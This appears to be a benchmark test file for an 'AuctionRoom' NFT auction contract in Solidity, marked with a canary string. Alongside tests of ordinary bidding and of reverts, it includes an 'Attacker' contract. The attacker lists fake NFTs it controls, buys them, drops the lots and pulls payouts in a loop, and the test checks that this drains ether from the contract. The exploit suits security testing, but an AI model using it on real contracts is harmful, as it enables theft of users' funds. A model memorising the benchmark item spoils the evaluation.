// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

import "./AuctionRoom.sol";

// assay-canary-3f68264d-d1a4-447a-a421-44d4bf0ea569

interface Vm {
    function deal(address who, uint256 wei_) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
}

contract Prints is INft {
    mapping(uint256 => address) public ownerOf;
    address private immutable minter = msg.sender;
    address private immutable keeper;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function mint(address to, uint256 id) external {
        require(msg.sender == minter && ownerOf[id] == address(0), "there");
        ownerOf[id] = to;
    }

    function transferFrom(address a, address b, uint256 id) external {
        require(ownerOf[id] == a && (msg.sender == a || msg.sender == keeper), "not allowed");
        ownerOf[id] = b;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant HOUSE = address(0x40);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_783_000_000;

    AuctionRoom private room;
    Prints private prints;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        room = new AuctionRoom(HOUSE);
        prints = new Prints(address(room));
        vm.deal(BEN, 100 ether);
        vm.deal(CAT, 250 ether);
        vm.deal(address(this), 10 ether);
        for (uint256 i = 1; i < 5; ++i) prints.mint(ANA, i);
        vm.startPrank(ANA);
        room.put(prints, 1, 50 ether, 3 days);
        room.put(prints, 2, 0, 3 days);
        vm.stopPrank();
        vm.prank(BEN);
        room.bid{value: 30 ether}(0);
        vm.prank(CAT);
        room.bid{value: 20 ether}(1);
        mallory = new Attacker{value: 10 ether}(room);
    }

    function test_Regular() public {
        // outbid in time, by a twentieth and more
        vm.prank(CAT);
        room.bid{value: 31.5 ether}(0);
        require(room.due(BEN) == 30 ether, "given back");
        vm.prank(BEN);
        room.pull(BEN);
        require(BEN.balance == 100 ether && room.due(BEN) == 0, "pulled");
        vm.warp(START + 3 days - 1 minutes);
        vm.prank(BEN);
        room.bid{value: 21 ether}(1);
        (, , , , uint64 end, , , ) = room.lots(1);
        require(end == START + 3 days + 9 minutes, "a tail");
        vm.warp(START + 3 days);
        room.close(0);
        require(prints.ownerOf(1) == CAT && room.due(HOUSE) == 0.7875 ether && room.due(ANA) == 30.7125 ether, "sold");
        vm.warp(end);
        room.close(1);
        require(prints.ownerOf(2) == BEN, "sold");

        // for the price that is asked, and back to the seller
        vm.startPrank(ANA);
        require(room.put(prints, 3, 4 ether, 1) == 2 && room.put(prints, 4, 0, 30 days) == 3, "two more");
        vm.stopPrank();
        vm.startPrank(BEN);
        room.bid{value: 1 ether}(2);
        room.bid{value: 1 ether}(3);
        vm.stopPrank();
        vm.prank(CAT);
        room.buy{value: 4 ether}(2);
        require(prints.ownerOf(3) == CAT && room.due(BEN) == 1 ether, "bought");
        vm.prank(ANA);
        room.drop(3);
        require(prints.ownerOf(4) == ANA && room.due(BEN) == 2 ether, "gone");
        uint256 n = room.due(ANA);
        vm.prank(ANA);
        room.pull(ANA);
        require(ANA.balance == n && n == 55.0875 ether && room.count() == 4, "paid");
    }

    function test_RefusesSpans() public {
        vm.startPrank(ANA);
        vm.expectRevert(AuctionRoom.Time.selector);
        room.put(prints, 3, 0, 0);
        vm.expectRevert(AuctionRoom.Time.selector);
        room.put(prints, 3, 0, 30 days + 1);
        vm.stopPrank();
    }

    function test_RefusesBids() public {
        vm.startPrank(CAT);
        vm.expectRevert(AuctionRoom.Low.selector);
        room.bid{value: 31.4 ether}(0);
        vm.expectRevert(AuctionRoom.Ask.selector);
        room.bid{value: 50 ether}(0);
        vm.expectRevert(AuctionRoom.Ask.selector);
        room.buy{value: 49 ether}(0);
        vm.expectRevert(AuctionRoom.Ask.selector);
        room.buy(1);
        vm.stopPrank();
        vm.prank(ANA);
        room.put(prints, 3, 1 ether, 1);
        vm.startPrank(CAT);
        vm.expectRevert(AuctionRoom.Low.selector);
        room.bid(2);
        vm.warp(START + 1);
        vm.expectRevert(AuctionRoom.State.selector);
        room.bid{value: 1 ether}(2);
        vm.expectRevert(AuctionRoom.State.selector);
        room.buy{value: 1 ether}(2);
        vm.expectRevert(AuctionRoom.State.selector);
        room.close(2);
        vm.expectRevert(AuctionRoom.Time.selector);
        room.close(0);
        vm.stopPrank();
    }

    function test_RefusesLotsThatAreOver() public {
        vm.prank(ANA);
        room.drop(1);
        vm.startPrank(CAT);
        vm.expectRevert(AuctionRoom.State.selector);
        room.bid{value: 40 ether}(1);
        room.buy{value: 50 ether}(0);
        vm.expectRevert(AuctionRoom.State.selector);
        room.buy{value: 50 ether}(0);
        vm.warp(START + 3 days);
        vm.expectRevert(AuctionRoom.State.selector);
        room.close(0);
        vm.stopPrank();
    }

    function test_RefusesToDrop() public {
        vm.prank(BEN);
        vm.expectRevert(AuctionRoom.Auth.selector);
        room.drop(0);
        vm.startPrank(ANA);
        room.drop(0);
        vm.expectRevert(AuctionRoom.State.selector);
        room.drop(0);
        vm.stopPrank();
    }

    function test_RefusesPaymentsNobodyTakes() public {
        vm.prank(ANA);
        room.drop(0);
        vm.prank(BEN);
        vm.expectRevert(AuctionRoom.Send.selector);
        room.pull(address(prints));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 45 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(room);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Sells things of its own making to itself and takes them back.
contract Attacker is INft {
    AuctionRoom private room;

    constructor(AuctionRoom room_) payable {
        room = room_;
    }

    function transferFrom(address, address, uint256) external {}

    function run() external {
        for (uint256 k; k < 4; ++k) {
            uint256 i = room.put(this, k, 10 ether, 1);
            room.buy{value: 10 ether}(i);
            room.drop(i);
            room.pull(address(this));
        }
    }

    receive() external payable {}
}
